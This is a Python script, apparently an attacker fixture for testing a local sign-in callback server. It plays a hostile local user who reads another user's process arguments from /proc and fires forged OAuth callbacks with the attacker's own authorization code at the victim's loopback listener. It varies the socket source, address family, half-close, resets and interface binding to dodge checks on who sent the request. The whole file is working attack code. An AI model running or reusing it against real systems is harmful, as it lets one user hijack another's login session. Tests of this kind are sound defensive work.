#!/usr/bin/env python3
"""Another user of the machine, who tries to make another user's sign-in end in the attacker's account.

As a command, run as that user: reads {"user", "start", "callback", "host"} as JSON from standard input, tries everything, and prints the
results. The callback contains the correct `state` and a code for the attacker's own account.
"""
import contextlib
import json
import os
import socket
import struct
import sys
from urllib.parse import urlsplit

# Not defined in Python.
SO_BINDTODEVICE = 25


def arguments_of(user):
    """Returns the argument lists of a user's processes, as `ps` shows them to everyone."""
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if os.stat(f"/proc/{entry}").st_uid == user or uid_of(entry) == user:
                with open(f"/proc/{entry}/cmdline", "rb") as file:
                    found.append(file.read().decode("utf-8", "replace").split("\0")[:-1])
    return found


def uid_of(process):
    """Returns the user ID of a process, even if its files in /proc belong to root."""
    with open(f"/proc/{process}/status") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("Uid:"))


def request(url):
    parts = urlsplit(url)
    query = f"?{parts.query}" if parts.query else ""
    return parts, f"GET {parts.path}{query} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode()


def connect(parts, family=socket.AF_INET, address=None, source=None, device=None):
    connection = socket.socket(family)
    connection.settimeout(60)
    if device:
        connection.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
    if source:
        connection.bind((source, 0))
    connection.connect((address or parts.hostname, parts.port))
    return connection


def answer(connection):
    """Returns the status, and whether there is a Location; data read before the other side reset the connection counts."""
    text = b""
    with contextlib.suppress(ConnectionError):
        while piece := connection.recv(65536):
            text += piece
    connection.close()
    return text.decode("utf-8", "replace")


def ask(url, half_closes=False, **options):
    parts, bytes_ = request(url)
    connection = connect(parts, **options)
    connection.sendall(bytes_)
    if half_closes:
        connection.shutdown(socket.SHUT_WR)
    return answer(connection)


def vanish(url, resets=False, lingers=None, through=None):
    """Sends the request and closes the connection before anyone can check who sent it."""
    parts, bytes_ = request(url)
    connection = connect(parts)
    if lingers is not None:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_LINGER2, lingers)
    connection.sendall(bytes_)
    if through:
        # From now on, packets leave through another interface, and never arrive, not even the end of the connection.
        with contextlib.suppress(OSError):
            connection.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, through.encode())
    if resets:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


def tried(action):
    try:
        return action()
    except OSError as error:
        return f"{type(error).__name__}: {error}"


def main():
    told = json.load(sys.stdin)
    start, callback = told["start"], told["callback"]
    interfaces = [name for _, name in socket.if_nameindex() if name != "lo"]
    found = {"arguments": arguments_of(told["user"])}
    answers = {"the start address": lambda: ask(start)}
    if callback:
        answers |= {
            "the callback": lambda: ask(callback),
            "the callback from an IPv6 socket": lambda: ask(callback, family=socket.AF_INET6, address="::ffff:127.0.0.1"),
            "the callback from another loopback address": lambda: ask(callback, source="127.0.0.2"),
            "the callback, half closed": lambda: ask(callback, half_closes=True),
            "the callback from a socket that is bound to the interface": lambda: ask(callback, device="lo"),
        }
        if told.get("host"):
            answers["the callback from the machine's own address"] = lambda: ask(callback, source=told["host"])
    found["answers"] = {name: tried(action) for name, action in answers.items()}
    for _ in range(25 if callback else 0):
        for options in ({}, {"lingers": 1}, {"lingers": -1}, {"resets": True}, *({"resets": True, "through": i} for i in interfaces[:1])):
            tried(lambda: vanish(callback, **options))
    json.dump(found, sys.stdout)


main()
